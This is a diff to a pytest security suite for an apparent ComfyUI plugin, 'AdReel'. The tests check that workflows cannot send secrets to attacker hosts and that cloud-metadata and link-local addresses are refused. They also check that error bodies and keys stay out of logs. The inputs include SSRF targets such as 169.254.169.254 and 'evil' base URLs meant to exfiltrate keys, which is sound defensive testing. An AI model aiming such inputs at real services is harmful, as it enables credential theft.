@@ -86,6 +86,10 @@ def server(hosts):
         "ADREEL_LLM_URL_GW": hosts.gw.url + "/v1",
         "ELEVENLABS_BASE_URL": hosts.tts.url,
         "ADREEL_SECRETS_FILE": "/nonexistent/adreel-secrets.json",
+        # the attacker's server stands for a public host but listens on loopback: this operator opens loopback
+        # and private addresses to keyless calls (keys stay bound to their hosts; link-local stays refused).
+        # Without it, keyless loopback/private calls are refused: test_security_round2_echo.py
+        "ADREEL_LLM_ALLOW_PRIVATE": "1",
     })
     with ComfyServer(env=env) as s:
         yield s
@@ -129,7 +133,7 @@ def test_c1_a_workflow_cannot_send_a_storage_secret_to_its_own_host(comfy, hosts
         comfy.queue(script_prompt(backend="openai", openai_model="evil:latest", openai_base_url=evil,
                                   api_key_env="MINIO_SECRET_KEY"))
     assert exc.value.status == 400
-    assert "api_key_env: MINIO_SECRET_KEY is not a key variable AdReel may send" in str(exc.value)
+    assert "api_key_env: names a variable AdReel may not send" in str(exc.value)
     # an allowed key variable still never goes to a host of the workflow's choosing
     for url in (evil, evil.replace("http://127.0.0.1", "http://localhost")):
         with pytest.raises(PromptError) as exc:
@@ -204,7 +208,8 @@ def test_m1_the_models_route_asks_only_the_configured_ollama(comfy, hosts):
 
 # ------------------------------------------------------------------ M2
 def test_m2_metadata_and_private_hosts_are_refused(comfy, hosts):
-    for host, words in (("http://169.254.169.254/latest", "cloud-metadata"), ("http://10.0.0.5:11434", "private"),
+    # (private ranges are open on this server, ADREEL_LLM_ALLOW_PRIVATE=1; metadata stays refused even so)
+    for host, words in (("http://169.254.169.254", "cloud-metadata"), ("http://[fe80::1]:11434", "link-local"),
                         (hosts.attacker.url + "/api/../admin", "without a path")):
         with pytest.raises(PromptError) as exc:
             comfy.run(script_prompt(ollama_host=host), timeout=60)
@@ -229,8 +234,8 @@ def test_m2_error_bodies_are_not_reflected_whole(comfy, hosts):
     hosts.attacker.script(Reply(400, {"error": secret_page}))
     result = comfy.run(script_prompt(ollama_host=hosts.attacker.url), timeout=60)
     text = result.ui("2")["text"][0]
-    assert text.startswith("FELL BACK TO THE TEMPLATE") and "ami-id" in text
-    assert text.count("INTERNAL-") < 30  # about 200 characters of it, not 18 000
+    assert text.startswith("FELL BACK TO THE TEMPLATE") and "HTTP 400" in text
+    assert "ami-id" not in text and "INTERNAL-" not in text  # the server's answer is never shown
     assert "INTERNAL-" * 30 not in json.dumps(comfy.get_json("/history"))
 
 
@@ -246,7 +251,7 @@ def test_m4_a_key_echoed_by_its_own_server_reaches_no_history_and_no_log(comfy, 
         comfy.run(script_prompt(backend="openai", openai_model="m", api_key_env="ADREEL_LLM_KEY_GW"), timeout=60)
     err = execution_error(exc.value)
     assert err["exception_message"].startswith("api_key_env:") and "401" in err["exception_message"]
-    assert "Incorrect API key provided: ***" in err["exception_message"]
+    assert "Incorrect API key" not in err["exception_message"]  # the server's words are not shown, only its status
     (sent,) = [r for r in hosts.gw.requests if r.path.endswith("/chat/completions")]
     assert sent.headers["Authorization"] == f"Bearer {CANARY_GW}"  # it went to its own host, and only there
     assert no_canary(json.dumps(comfy.get_json("/history")), CANARY_GW)
@@ -262,7 +267,7 @@ def test_m4_the_log_filter_covers_other_libraries_in_the_comfyui_process(comfy, 
     with pytest.raises(PromptError) as exc:  # the query string makes the path wrong: a 404 there
         comfy.run(script_prompt(backend="openai", openai_model="evil:latest", openai_base_url=url,
                                 api_key_env="none", max_attempts=1), timeout=60)
-    assert "X-Amz-Signature=***" in execution_error(exc.value)["exception_message"]
+    assert signature[:12] not in execution_error(exc.value)["exception_message"]
     log = comfy.log_text()
     # the request went out (keyless, to loopback; the fake 404s an unknown path) and httpx logged it
     assert any(line.startswith("HTTP Request: POST") and "X-Amz-Signature=***" in line for line in log.splitlines())
